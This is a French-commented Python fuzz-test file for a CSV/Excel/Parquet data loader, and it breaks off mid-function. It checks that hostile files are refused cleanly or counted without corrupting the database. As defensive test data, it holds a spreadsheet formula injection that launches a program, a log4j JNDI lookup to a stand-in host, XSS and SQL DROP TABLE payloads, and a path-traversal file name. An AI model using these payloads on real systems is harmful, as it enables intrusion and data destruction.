"""Fichiers hostiles : le chargeur ne lève jamais, refuse en français ou compte juste, et ne touche à rien.

Pour chaque fichier, quel qu'il soit :
- aucune exception ne sort de charger_octets / charger_fichiers (aucune trace Python n'atteint l'utilisateur) ;
- ou bien il est refusé (statut « refused », message en français qui dit quoi faire) et la base est
  exactement celle d'avant ;
- ou bien ses lignes sont acceptées ou rejetées, acceptées + rejetées = lues, et la base a gagné
  exactement un chargement, ses épisodes acceptés et ses lignes en quarantaine ;
- ou bien il remplacerait une ALI ou une année budgétaire au-delà du seuil (« to_confirm ») : la base est
  exactement celle d'avant ; le même fichier est alors rechargé avec confirmation et doit tenir la règle
  précédente (le chemin d'écriture est éprouvé lui aussi).

Propriétés avec hypothesis (graine fixe : derandomize=True, plus de 200 cas par exécution) puis cas
explicites ; les plus lents (150 CSV hostiles, ligne de 50 Mo, 100 000 colonnes, bombe zip) portent la
marque `slow`, et la CI les exécute quand même. Une seule base par test : chaque cas compare l'état de la
base avant et après son chargement.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import time
import tracemalloc
import zipfile
from datetime import date, datetime, timedelta
from datetime import time as dtime
from decimal import Decimal
from functools import cache
from pathlib import Path

import duckdb
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from insertion.ingest.chargement import COLONNES_FILE_ACTIVE, charger_fichiers, charger_octets
from insertion.ingest.compte_rendu import STATUTS, ResultatChargement
from insertion.store.db import ouvrir_en_ecriture
from tests.conftest import _DUMPS, build_db, csv_bytes, dump, ligne, lignes, write

# Graine fixe, pas de délai par cas (le premier chargement ouvre DuckDB), pas de base d'exemples sur disque.
# La fixture de connexion est partagée par tous les cas d'un test : c'est voulu (une base par test).
FUZZ = {
    "derandomize": True,
    "deadline": None,
    "database": None,
    "suppress_health_check": [
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
}
D = "2023-06-30"


# ---------------------------------------------------------------- la base de chaque test


@pytest.fixture(scope="module")
def base_db(tmp_path_factory) -> Path:
    """Une petite base réelle : deux ALI et un budget, chargés par le vrai chargeur."""
    db_path = tmp_path_factory.mktemp("fuzz") / "base.duckdb"
    ali04 = lignes(3, code_ali="ALI04", code_commune="93027")
    budget = b"annee;code_ali;ligne;montant_vote;montant_execute\n2023;;iae;1000;900\n"
    return build_db(db_path, {"ali14.csv": csv_bytes(lignes(4)), "ali04.csv": csv_bytes(ali04), "budget.csv": budget})


@pytest.fixture
def con(base_db, tmp_path):
    """Une connexion en écriture sur une copie de la base, gardée pour tous les cas du test."""
    path = tmp_path / "fuzz.duckdb"
    shutil.copyfile(base_db, path)
    with ouvrir_en_ecriture(path) as connection:
        yield connection


def snapshot(con: duckdb.DuckDBPyConnection) -> dict[str, list[tuple]]:
    """Le même contenu que tests.conftest.dump, lu sur la connexion ouverte."""
    return {name: sorted(con.execute(sql).fetchall(), key=repr) for name, sql in _DUMPS.items()}


# ---------------------------------------------------------------- les invariants

# Mots-outils du français : un message qui n'en contient pas n'est pas une phrase française.
_MOTS_FRANCAIS = {
    "le", "la", "les", "l", "de", "des", "du", "d", "est", "n", "pas", "une", "un", "aucune", "aucun", "et",
    "ou", "puis", "ligne", "lignes", "colonne", "colonnes", "fichier", "rien", "a", "été", "lue", "lues",
    "acceptée", "acceptées", "rejetée", "rejetées", "au", "delà", "ce", "qui", "sous", "pour",
}  # fmt: skip


def assert_french(message: str) -> None:
    assert message, "message vide"
    assert not re.search(r"Traceback|Error:|Exception:|errno|\.py\b", message), message
    # « erreur inattendue » : le chargeur a rattrapé une exception qu'il ne comprenait pas. Aucun fichier,
    # si hostile soit-il, ne doit y mener : le message doit dire ce qui ne va pas dans le fichier.
    assert "erreur inattendue" not in message, message
    words = set(re.findall(r"[a-zàâçéèêëîïôûùüÿœ]+", message.lower()))
    assert len(words & _MOTS_FRANCAIS) >= 3, message


def assert_invariants(result: object, before: dict, after: dict) -> None:
    assert isinstance(result, ResultatChargement)
    assert result.status in STATUTS
    assert_french(result.message)
    if result.status == "refused":
        assert result.message.startswith("Fichier refusé : ")
        assert (result.rows_read, result.accepted, result.rejected) == (0, 0, 0)
        assert after == before, "un fichier refusé a modifié la base"
        return
    if result.status in ("already_loaded", "to_confirm"):
        assert after == before
        return
    assert result.accepted + result.rejected == result.rows_read
    assert sum(result.rejections.values()) == result.rejected
    assert result.rows_read > 0
    new = [row for row in after["chargements"] if row not in before["chargements"]]
    assert len(new) == 1, new
    load_id, file_name, _, nature, status, _, read, accepted, rejected = new[0][:9]
    assert (file_name, nature, status) == (result.file, result.nature, result.status)
    assert (read, accepted, rejected) == (result.rows_read, result.accepted, result.rejected)
    assert sum(1 for q in after["quarantaine"] if q[0] == load_id) == result.rejected
    if nature == "file_active":
        assert sum(1 for e in after["episodes_historique"] if e[0] == load_id) == result.accepted
        assert after["budget"] == before["budget"]
    else:
        assert sum(1 for b in after["budget"] if b[0] == load_id) == result.accepted
        assert after["episodes_historique"] == before["episodes_historique"]
    # Rien d'autre ne disparaît : l'historique et la quarantaine ne font que grandir.
    for table in ("chargements", "episodes_historique", "quarantaine"):
        assert set(map(repr, before[table])) <= set(map(repr, after[table]))


def outcome(result: ResultatChargement) -> str:
    """Pour les statistiques d'hypothesis (--hypothesis-show-statistics) : quels cas ont été produits."""
    if result.status != "refused":
        return f"{result.status}, {'avec' if result.rejected else 'sans'} rejet"
    return "refused : " + re.sub(r"« [^»]*» ?", "", result.message.removeprefix("Fichier refusé : "))[:40]


def check(con: duckdb.DuckDBPyConnection, data: bytes, name: str) -> ResultatChargement:
    before = snapshot(con)
    result = charger_octets(con, data, name)  # ne doit jamais lever
    assert_invariants(result, before, snapshot(con))
    if result.status == "to_confirm":
        assert result.apercu is not None and result.apercu.a_confirmer
        result = charger_octets(con, data, name, forcer={result.jeton})
        assert result.status != "to_confirm"
        assert_invariants(result, before, snapshot(con))
    if currently_in_test_context():
        event(outcome(result))
    return result


def check_files(db_path: Path, folder: Path, data: bytes, name: str) -> ResultatChargement:
    """Le même contrôle par le vrai chemin des fichiers : charger_fichiers, copie de la base, os.replace."""
    before = dump(db_path)
    (result,) = charger_fichiers(db_path, [write(folder / name, data)])
    assert_invariants(result, before, dump(db_path))
    if result.status == "to_confirm":
        (result,) = charger_fichiers(db_path, [folder / name], forcer={result.jeton})
        assert result.status != "to_confirm"
        assert_invariants(result, before, dump(db_path))
    if currently_in_test_context():
        event(outcome(result))
    assert not list(db_path.parent.glob("*.chargement*")), "copie de travail laissée derrière"
    return result


# ---------------------------------------------------------------- les ingrédients

NAMES = ["extrait.csv", "extrait.txt", "extrait.xlsx", "extrait.parquet", "extrait.xls", "extrait", "EXTRAIT.CSV"]

HOSTILE = [
    # injection de formule (CSV ouvert dans un tableur)
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://exemple.invalid","clic")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1",
    # HTML / JavaScript / SQL / gabarits
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "javascript:alert(1)",
    "{{7*7}}", "${jndi:ldap://exemple.invalid/a}", "'; DROP TABLE episodes; --", "Robert'); DROP TABLE quarantaine;--",
    # dates impossibles ou hors bornes
    "00/00/0000", "0000-00-00", "9999-12-31", "31/12/9999", "29/02/2023", "2023-02-29", "1899-12-31", "2101-01-01",
    "45000", "2023-06-30T25:61:00", "-2023-01-01", "2023-06-30 00:00:00", "15/03/2024 10:30",
    # nombres en notation scientifique, valeurs spéciales
    "1e5", "9.3014E4", "9,3014E+04", "1E+308", "1e-400", "NaN", "inf", "-0", "0x1F", "4,60E+07",
    # caractères difficiles
    "\x00", "a\x00b", "\ufeff", "\u202e", "\u200b", "é", "Ã©", "𝕏", "🙂", " ", "\u00a0", "\n", "\r\n", "\r",
    '"', '""', ";", ",", "\\", "x" * 70, "A" * 5000,
]  # fmt: skip

GOOD = {
    "id_beneficiaire": ["b0000001", "B-000_0009", "x" * 64],
    "code_ali": ["ALI14", "ali04", " ALI01 "],
    "code_commune": ["93014", "93027", "93066"],
    "date_orientation": ["2023-03-15", "15/03/2023", "2023-06-30"],
    "type_parcours": ["social", "Socio-professionnel", "PROFESSIONNEL"],
    "date_diag_numerique": ["", "2023-04-01"],
    "niveau_numerique": ["", "Débutant", "autonome"],
    "date_diag_linguistique": ["", "01/05/2023"],
    "niveau_linguistique": ["", "A1", "Francophone"],
    "date_sortie": ["", "2023-06-01"],
    "motif_sortie": ["", "emploi_durable", "Création entreprise"],
    "tranche_age": ["25_34", "55 plus", "moins_25"],
    "sexe": ["F", "M"],
    "composition_foyer": ["", "Seul avec enfants"],
    "anciennete_rsa": ["", "2-5 ans"],
    "date_extraction": [D, "30/06/2023"],
}

# Le caractère nul fait refuser tout le fichier : il ne vient que de HOSTILE, pas de chaque texte tiré.
cell_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(alphabet=st.characters(exclude_characters="\x00"), max_size=24),
    st.text(alphabet=st.characters(codec="latin-1", exclude_characters="\x00"), max_size=12),
)


@st.composite
def mutated_rows(draw, max_rows: int = 6) -> list[dict[str, str]]:
    """Des lignes valides dont quelques cellules sont remplacées par des valeurs hostiles ou d'autres valides."""
    rows = lignes(draw(st.integers(0, max_rows)))
    for row in rows:
        for column in draw(st.lists(st.sampled_from(COLONNES_FILE_ACTIVE), max_size=4)):
            row[column] = draw(st.one_of(cell_text, st.sampled_from(GOOD[column])))
    return rows


@st.composite
def headers_of(draw, columns: list[str]) -> list[str]:
    """En-têtes du contrat, parfois malmenés : casse, ordre, colonne en moins, doublon, colonne en plus."""
    columns = list(columns)
    op = draw(st.sampled_from(["tel_quel", "tel_quel", "casse", "ordre", "moins", "doublon", "plus", "vide"]))
    if op == "casse":
        columns = [f" {c.upper()} " for c in columns]
    elif op == "ordre":
        columns = draw(st.permutations(columns))
    elif op == "moins" and columns:
        columns.pop(draw(st.integers(0, len(columns) - 1)))
    elif op == "doublon" and columns:
        columns.append(draw(st.sampled_from(columns)).replace("_", " ").title())
    elif op == "plus":
        columns.append(draw(st.sampled_from(["commentaire", "", "Code ALI (ancien)", "x" * 300])))
    elif op == "vide":
        columns[draw(st.integers(0, len(columns) - 1))] = ""
    return columns


def _encode(text: str, encoding: str) -> bytes:
    if encoding == "utf-8-sig":
        return b"\xef\xbb\xbf" + text.encode("utf-8", errors="surrogatepass")
    if encoding in ("cp1252", "latin-1"):
        return text.encode(encoding, errors="replace")
    return text.encode(encoding, errors="surrogatepass")


@st.composite
def csv_files(draw) -> tuple[str, bytes]:
    rows = draw(mutated_rows())
    header = draw(headers_of(COLONNES_FILE_ACTIVE))
    sep = draw(st.sampled_from([",", ";", "\t", "|"]))
    # De temps en temps, les lignes n'ont pas le séparateur de l'en-tête.
    row_sep = draw(st.sampled_from([sep] * 4 + [",", ";", "\t"]))
    newline = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    lines = []
    for index, values in enumerate([header] + [[row.get(c, "") for c in COLONNES_FILE_ACTIVE] for row in rows]):
        out = io.StringIO()
        csv.writer(out, delimiter=sep if index == 0 else row_sep, lineterminator="").writerow(values)
        lines.append(out.getvalue())
    encoding = draw(st.sampled_from(["utf-8"] * 3 + ["utf-8-sig", "cp1252", "latin-1", "utf-16", "mixte"]))
    if encoding == "mixte":  # chaque ligne dans son propre encodage, recollées dans un même fichier
        data = newline.encode().join(_encode(line, draw(st.sampled_from(["utf-8", "cp1252"]))) for line in lines)
    else:
        data = _encode(newline.join(lines), encoding)
    ending = draw(st.sampled_from(["fin"] * 4 + ["sans_fin", "tronque", "nul"]))
    if ending == "fin":
        data += newline.encode()
    elif ending == "tronque" and data:
        data = data[: draw(st.integers(len(data) // 2, len(data)))]
    elif ending == "nul" and data:
        at = draw(st.integers(0, len(data)))
        data = data[:at] + b"\x00" + data[at:]
    return draw(st.sampled_from(["extrait.csv", "extrait.txt", "EXTRAIT.CSV"])), data


# Valeurs typées d'une cellule Excel.
excel_value = st.one_of(
    cell_text.map(lambda v: ILLEGAL_CHARACTERS_RE.sub("", v)),
    st.integers(-(2**62), 2**62),
    st.sampled_from([93014, 93014.0, 9.3014e4, 1e20, 1e-7, 0.1, -1.5, 45000, 2023.0]),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(9999, 12, 31)),
    st.dates(min_value=date(1900, 3, 1), max_value=date(9999, 12, 31)),
    st.sampled_from([dtime(0, 0), dtime(23, 59, 59), timedelta(days=3), Decimal("93014"), None]),
    st.sampled_from(["=1+1", "=A1", '=HYPERLINK("http://exemple.invalid","x")', "=1/0", "=NOW()"]),
)


@st.composite
def xlsx_files(draw) -> tuple[str, bytes]:
    rows = draw(mutated_rows(max_rows=4))
    header = draw(headers_of(COLONNES_FILE_ACTIVE))
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    if draw(st.sampled_from([False] * 9 + [True])):  # première feuille vide, les données sur la deuxième
        sheet = workbook.create_sheet("Données")
    sheet.append(header)
    for row in rows:
        values: list[object] = [ILLEGAL_CHARACTERS_RE.sub("", row[c]) or None for c in COLONNES_FILE_ACTIVE]
        for position in draw(st.lists(st.integers(0, len(values) + 2), max_size=3)):
            value = draw(excel_value)
            if position < len(values):
                values[position] = value
            else:  # au-delà de l'en-tête
                values.append(value)
        sheet.append(values)
    out = io.BytesIO()
    workbook.save(out)
    data = out.getvalue()
    dimension = draw(st.sampled_from([None, None, "A1", "A1:P2", "A1:XFD1048576", "B3:C4"]))
    if dimension:
        data = _rewrite_sheet(
            data, lambda xml: re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(), xml)
        )
    return draw(st.sampled_from(["extrait.xlsx", "extrait.xlsm", "extrait.csv"])), data


def _rewrite_sheet(data: bytes, change) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = change(content)
            target.writestr(info, content)
    return out.getvalue()


# Colonnes Parquet de tous les types, pour les colonnes du contrat.
def _arrow_column(kind: str, texts: list[str], draw) -> pa.Array:
    n = len(texts)
    if kind == "string":
        return pa.array(texts, type=pa.string())
    if kind == "large_string":
        return pa.array(texts, type=pa.large_string())
    if kind == "dictionary":
        return pa.array(texts, type=pa.string()).dictionary_encode()
    if kind == "int64":
        return pa.array(
            draw(st.lists(st.integers(-(2**63), 2**63 - 1) | st.none(), min_size=n, max_size=n)), pa.int64()
        )
    if kind == "float64":
        special = st.sampled_from([float("nan"), float("inf"), -float("inf"), 93014.0, 1e20, 2023.5, -0.0])
        values = draw(st.lists(st.floats() | special | st.none(), min_size=n, max_size=n))
        return pa.array(values, type=pa.float64())
    if kind == "bool":
        return pa.array(draw(st.lists(st.booleans() | st.none(), min_size=n, max_size=n)), type=pa.bool_())
    if kind == "date32":
        values = draw(st.lists(st.dates(min_value=date(1, 1, 1)) | st.none(), min_size=n, max_size=n))
        return pa.array(values, type=pa.date32())
    if kind in ("timestamp_s", "timestamp_ns_tz"):
        low, high = (-(2**40), 2**40) if kind == "timestamp_s" else (-(2**62), 2**62)
        values = draw(st.lists(st.integers(low, high) | st.none(), min_size=n, max_size=n))
        target = pa.timestamp("s") if kind == "timestamp_s" else pa.timestamp("ns", tz="Europe/Paris")
        return pa.array(values, type=pa.int64()).cast(target)
    if kind == "binary":
        return pa.array(draw(st.lists(st.binary(max_size=12) | st.none(), min_size=n, max_size=n)), pa.binary())
    if kind == "list":
        return pa.array([[1, 2]] * n, type=pa.list_(pa.int64()))
    if kind == "struct":
        return pa.array([{"a": 1, "b": "x"}] * n, type=pa.struct([("a", pa.int64()), ("b", pa.string())]))
    if kind == "decimal":
        return pa.array([Decimal("93014.50")] * n, type=pa.decimal128(12, 2))
    if kind == "null":
        return pa.nulls(n)
    if kind == "duration":
        return pa.array([1_000] * n, type=pa.duration("s"))
    if kind == "time64":
        return pa.array([3_600_000_000] * n, type=pa.time64("us"))
    raise AssertionError(kind)


PARQUET_KINDS = [
    "string", "string", "string", "large_string", "dictionary", "int64", "float64", "bool", "date32",
    "timestamp_s", "timestamp_ns_tz", "binary", "list", "struct", "decimal", "null", "duration", "time64",
]  # fmt: skip


@st.composite
def parquet_files(draw) -> tuple[str, bytes]:
    rows = draw(mutated_rows(max_rows=4))
    header = draw(headers_of(COLONNES_FILE_ACTIVE))
    arrays, names = [], []
    for position, name in enumerate(header):
        source = COLONNES_FILE_ACTIVE[position % len(COLONNES_FILE_ACTIVE)]
        texts = [row[source] or None for row in rows]
        kind = draw(st.sampled_from(PARQUET_KINDS)) if draw(st.sampled_from([False] * 3 + [True])) else "string"
        arrays.append(_arrow_column(kind, texts, draw))
        names.append(name)
    out = io.BytesIO()
    pq.write_table(pa.table(arrays, names=names), out)
    return draw(st.sampled_from(["extrait.parquet", "extrait.csv", "extrait"])), out.getvalue()


@cache
def valid_files() -> dict[str, bytes]:
    """Un fichier valide de chaque format, à abîmer octet par octet."""
    rows = lignes(4) + [ligne(id_beneficiaire="b0000009", date_sortie="2023-05-01", motif_sortie="formation")]
    workbook = openpyxl.Workbook()
    workbook.active.append(list(rows[0]))
    for row in rows:
        workbook.active.append([v or None for v in row.values()])
    xlsx = io.BytesIO()
    workbook.save(xlsx)
    parquet = io.BytesIO()
    pq.write_table(pa.table({c: pa.array([r[c] or None for r in rows], pa.string()) for c in rows[0]}), parquet)
    return {"valide.csv": csv_bytes(rows), "valide.xlsx": xlsx.getvalue(), "valide.parquet": parquet.getvalue()}


@st.composite
def damaged_files(draw) -> tuple[str, bytes]:
    """Un fichier valide tronqué, aux octets retournés, ou dont un morceau est répété."""
    name = draw(st.sampled_from(sorted(valid_files())))
    data = bytearray(valid_files()[name])
    op = draw(st.sampled_from(["tronque", "octets", "octets", "repete"]))
    if op == "tronque":
        data = data[: draw(st.integers(0, len(data) - 1))]
    elif op == "octets":
        for _ in range(draw(st.integers(1, 8))):
            data[draw(st.integers(0, len(data) - 1))] = draw(st.integers(0, 255))
    else:
        start = draw(st.integers(0, len(data) - 1))
        end = draw(st.integers(start, min(len(data), start + 200)))
        data = data[:end] + data[start:end] * draw(st.integers(1, 5)) + data[end:]
    return name, bytes(data)


@st.composite
def random_files(draw) -> tuple[str, bytes]:
    """Des octets au hasard, parfois derrière la signature d'un zip, d'un Parquet, d'un BOM ou d'un en-tête valide."""
    prefix = draw(
        st.sampled_from([b"", b"", b"PK\x03\x04", b"PAR1", b"\xef\xbb\xbf", b"\xff\xfe", ",".join(ligne()).encode()])
    )
    return draw(st.sampled_from(NAMES)), prefix + draw(st.binary(max_size=3000))


# ---------------------------------------------------------------- propriétés (hypothesis)


@settings(max_examples=80, **FUZZ)
@given(case=random_files())
def test_random_bytes(con, case):
    check(con, case[1], case[0])


@pytest.mark.slow
@settings(max_examples=150, **FUZZ)
@given(case=csv_files())
def test_hostile_csv(con, case):
    check(con, case[1], case[0])


@pytest.mark.slow  # ≈ 38 s sous charge (50 classeurs, 30 chargements complets)
@settings(max_examples=50, **FUZZ)
@given(case=xlsx_files())
def test_hostile_xlsx(con, case):
    check(con, case[1], case[0])


@settings(max_examples=60, **FUZZ)
@given(case=parquet_files())
def test_parquet_with_any_types(con, case):
    check(con, case[1], case[0])


@settings(max_examples=60, **FUZZ)
@given(case=damaged_files())
def test_damaged_valid_files(con, case):
    check(con, case[1], case[0])


@pytest.mark.slow  # ≈ 38 s sous charge (50 classeurs, 30 chargements complets)
@settings(max_examples=30, **FUZZ)
@given(case=st.one_of(csv_files(), xlsx_files(), parquet_files(), damaged_files(), random_files()))
def test_through_load_files(base_db, tmp_path_factory, case):
    """Le chemin complet (fichier sur disque, copie de la base, os.replace), comparé avec tests.conftest.dump."""
    folder = tmp_path_factory.mktemp("cas")
    db_path = folder / "base.duckdb"
    shutil.copyfile(base_db, db_path)
    check_files(db_path, folder, case[1], case[0])


# ---------------------------------------------------------------- cas explicites


def all_text_cells(con: duckdb.DuckDBPyConnection) -> list[str]:
    """Toutes les valeurs de texte de toutes les tables de données, pour y chercher une charge utile."""
    cells = []
    for table in _DUMPS:
        columns = [
            c for (c,) in con.execute(
                "SELECT column_name FROM duckdb_columns() WHERE table_name = ? AND data_type = 'VARCHAR'", [table]
            ).fetchall()
        ]  # fmt: skip
        for column in columns:  # noms tirés du catalogue, pas du fichier
            cells += [v for v in con.table(table).df()[column].dropna().unique() if v]
    return cells


@pytest.mark.parametrize(
    ("name", "data", "fragment"),
    [
        ("vide.csv", b"", "vide"),
        ("blanc.csv", b"\n\r\n  \n", "vide"),
        ("bom.csv", b"\xef\xbb\xbf", "vide"),
        ("entete.csv", ",".join(ligne()).encode() + b"\n", "aucune ligne de données"),
        ("entete.xlsx", None, "aucune ligne de données"),
        ("nul.csv", csv_bytes(lignes(2)).replace(b"ALI14", b"AL\x00I14", 1), "caractères nuls"),
        ("utf16.csv", csv_bytes(lignes(2)).decode().encode("utf-16"), "caractères nuls"),
        ("faux.xlsx", csv_bytes(lignes(2)), "Excel"),
        ("faux.parquet", csv_bytes(lignes(2)), "Parquet"),
        ("ancien.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, ".xls"),
        ("zip.xlsx", b"PK\x03\x04" + b"\x00" * 100, "Excel"),
        ("autre.zip.csv", None, "Excel"),
        ("doublon.csv", csv_bytes([dict(ligne(), **{"Code ALI": "ALI04"})]), "« code_ali » apparaît deux fois"),
        ("separateur.csv", None, "date_extraction"),
        ("guillemet.csv", csv_bytes(lignes(2)) + b'"b0000009,ALI14' + b"x" * 200_000, "CSV lisible"),
        ("tronque.csv", csv_bytes(lignes(3))[:-12], "ligne 4"),
        ("extraction_9999.csv", csv_bytes(lignes(2, date_extraction="31/12/9999")), "date_extraction absente"),
        ("extraction_0000.csv", csv_bytes(lignes(2, date_extraction="00/00/0000")), "date_extraction absente"),
        ("malformees.csv", ",".join(ligne()).encode() + b"\n" + b"a," * 20 + b"\n", "nombre de colonnes de l'en-tête"),
    ],
    ids=lambda value: value if isinstance(value, str) and len(value) < 40 else "",
)
def test_files_refused_in_french(con, name, data, fragment):
    if name == "entete.xlsx":
        workbook = openpyxl.Workbook()
        workbook.active.append(list(ligne()))
        out = io.BytesIO()
        workbook.save(out)
        data = out.getvalue()
    elif name == "autre.zip.csv":  # un zip quelconque, nommé .csv : le contenu prime sur l'extension
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("lisez-moi.txt", "bonjour")
        data = out.getvalue()
    elif name == "separateur.csv":  # en-tête en « ; », lignes en « , »
        data = csv_bytes(lignes(2)).replace(b",", b";", len(ligne()) - 1)
    result = check(con, data, name)
    assert result.status == "refused"
    assert fragment in result.message, result.message


def test_duplicate_header_outside_the_contract_is_not_echoed(con):
    """Sans ligne d'en-tête, la première ligne de données en tient lieu : ses valeurs ne sont pas répétées."""
    rows = [["Dupont", "Jeanne", "Dupont"], ["Martin", "Paul", "Martin"]]
    data = "\n".join(",".join(r) for r in rows).encode()
    result = check(con, data, "sans_entete.csv")
    assert result.status == "refused" and "apparaît deux fois" in result.message
    assert "dupont" not in result.message.lower()


def test_mixed_encodings_in_one_file_load_every_row(con):
    """Deux exports recollés : des lignes en UTF-8, d'autres en Windows-1252. Chacune est lue dans le sien."""
    rows = [ligne(id_beneficiaire=f"b000000{i}", niveau_numerique="Débutant", type_parcours="Socio-professionnel")
            for i in range(1, 5)]  # fmt: skip
    text = csv_bytes(rows).decode().splitlines()
    data = b"\n".join(line.encode("utf-8" if i % 2 else "cp1252") for i, line in enumerate(text)) + b"\n"
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    result = check(con, data, "mixte.csv")
    assert (result.status, result.accepted, result.rejected) == ("loaded", 4, 0), result.rejections
    assert {n for (n,) in con.execute("SELECT DISTINCT niveau_numerique FROM episodes_historique").fetchall()} >= {
        "debutant"
    }


@pytest.mark.parametrize("cut", [1, 5, 11, 20, 40, 80])
def test_truncated_last_line(con, cut):
    """Un envoi coupé en route : refusé (la dernière ligne a perdu sa date d'extraction) ou compté juste."""
    data = csv_bytes(lignes(3, date_sortie="2023-05-01", motif_sortie="formation"))
    result = check(con, data[:-cut], f"coupe_{cut}.csv")
    if result.status == "refused":
        assert "ligne 4" in result.message
    else:
        assert result.rows_read == 3


@pytest.mark.parametrize("payload", [p for p in HOSTILE[:14] if p.strip()])
def test_formula_and_html_in_every_text_field_are_never_stored(con, payload):
    """La charge utile dans toutes les cellules d'une ligne, puis dans chaque colonne d'une ligne valide :
    les lignes sont rejetées (jamais la valeur brute en quarantaine) et rien de la charge n'est stocké."""
    rows = [dict.fromkeys(COLONNES_FILE_ACTIVE, payload) | {"date_extraction": D}]
    for column in COLONNES_FILE_ACTIVE[:-1]:
        rows.append(ligne(id_beneficiaire=f"p{len(rows):07d}") | {column: payload})
    rows.append(ligne(id_beneficiaire="p9999999"))
    columns = [*COLONNES_FILE_ACTIVE, "commentaire"]
    for row in rows:
        row["commentaire"] = payload
    result = check(con, csv_bytes(rows, columns=columns), "charge.csv")
    assert result.status == "loaded"
    assert result.accepted >= 1  # la dernière ligne est valide
    assert payload not in result.message
    stored = all_text_cells(con)
    assert not [v for v in stored if payload in v], payload
    assert not [v for v in stored if v[:1] in ("=", "+", "@", "\t", "\r")]


def test_hostile_file_names(con):
    for name in ["<script>alert(1)</script>.csv", "../../../etc/passwd.csv", "a\nb.csv", "x" * 500 + ".csv", "€.csv"]:
        rows = [ligne(id_beneficiaire=f"n{len(name):07d}"), ligne(id_beneficiaire=f"m{len(name):07d}")]
        result = check(con, csv_bytes(rows), name)
        assert result.status in ("loaded", "already_loaded")


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"date_orientation": "00/00/0000"}, "date_orientation illisible"),
        ({"date_orientation": "0000-00-00"}, "date_orientation illisible"),
        ({"date_orientation": "31/12/9999"}, "date_orientation illisible"),
        ({"date_diag_numerique": "9999-12-31"}, "date_diag_numerique illisible"),
        ({"date_sortie": "31/12/9999", "motif_sortie": "abandon"}, "date_sortie illisible"),
        ({"code_commune": "9.3014E4"}, "code_commune absent"),
        ({"code_commune": "9,3014E+04"}, "code_commune absent"),
        ({"id_beneficiaire": "1.23457E+11"}, "id_beneficiaire invalide"),
        ({"code_ali": "1E1"}, "code_ali absent"),
    ],
)
def test_impossible_dates_and_exponent_numbers_are_rejected_rows(con, change, reason):
    rows = lignes(3)
    rows[1].update(change)
    result = check(con, csv_bytes(rows), "lignes.csv")
    assert (result.status, result.accepted, result.rejected) == ("loaded", 2, 1)
    ((motif, _),) = result.rejections.items()
    assert motif.startswith(reason)


def test_exponent_amounts_and_years_in_a_budget_are_rejected(con):
    """« 4,60E+07 » est ce qu'Excel écrit d'un montant dans une colonne trop étroite : chiffres perdus."""
    data = (
        b"annee;code_ali;ligne;montant_vote;montant_execute\n"
        b"2021;;iae;4,60E+07;\n"
        b"2022;;iae;1e3;\n"
        b"2.023e3;;iae;100;\n"
        b"2024.5;;iae;100;\n"
        b"0x7E8;;iae;100;\n"
        b"2025;;iae;100;9.9E+01\n"
        b"2025.0;;mobilite;100;\n"
    )
    result = check(con, data, "budget_exposants.csv")
    assert (result.status, result.rows_read, result.accepted, result.rejected) == ("loaded", 7, 1, 6)
    assert result.rejections == {
        "montant_vote illisible (attendu un montant en euros)": 2,
        "annee invalide (attendu une année entre 2000 et 2100)": 3,
        "montant_execute illisible (attendu un montant en euros)": 1,
    }


def test_numeric_cells_in_excel_and_parquet_keep_their_meaning(con):
    """Un code commune saisi comme nombre (93014, 93014.0) reste « 93014 » ; une date Excel reste une date."""
    rows = lignes(2)
    workbook = openpyxl.Workbook()
    workbook.active.append(list(rows[0]))
    for row in rows:
        values = [v or None for v in row.values()]
        values[2] = 93014.0
        values[3] = datetime(2023, 3, 15)
        workbook.active.append(values)
    out = io.BytesIO()
    workbook.save(out)
    assert check(con, out.getvalue(), "nombres.xlsx").accepted == 2
    rows = [ligne(id_beneficiaire="q0000001"), ligne(id_beneficiaire="q0000002")]
    table = pa.table({c: pa.array([r[c] or None for r in rows], pa.string()) for c in rows[0]})
    table = table.set_column(2, "code_commune", pa.array([93014.0, 93014.0]))
    out = io.BytesIO()
    pq.write_table(table, out)
    result = check(con, out.getvalue(), "nombres.parquet")
    assert (result.accepted, result.rejected) == (2, 0), result.rejections


@pytest.mark.parametrize(
    ("column", "array", "expected"),
    [
        ("date_orientation", pa.array([20230315, 20230316], pa.int64()), "date_orientation illisible"),
        # NaN est une valeur manquante (« manquante »), 1.5 une date illisible : jamais le fichier entier refusé.
        ("date_orientation", pa.array([1.5, float("nan")]), "date_orientation "),
        ("code_commune", pa.array([93014.0, float("nan")]), "code_commune manquant"),
        ("date_orientation", pa.array([True, False]), "date_orientation illisible"),
        ("date_orientation", pa.array([datetime(2023, 3, 15, 10)] * 2, pa.timestamp("us", tz="UTC")), None),
        ("sexe", pa.array([[1], [2]], pa.list_(pa.int64())), "type illisible"),
        ("code_ali", pa.array([b"\xff\xfe", b"ALI14"], pa.binary()), "type illisible"),
        ("code_ali", pa.array([{"a": 1}, {"a": 2}]), "type illisible"),
        ("id_beneficiaire", pa.array([12345678, 12345679], pa.int64()), None),
        ("date_extraction", pa.array([date(9999, 12, 31)] * 2, pa.date32()), "date_extraction absente"),
    ],
)
def test_parquet_with_wrong_types(con, column, array, expected):
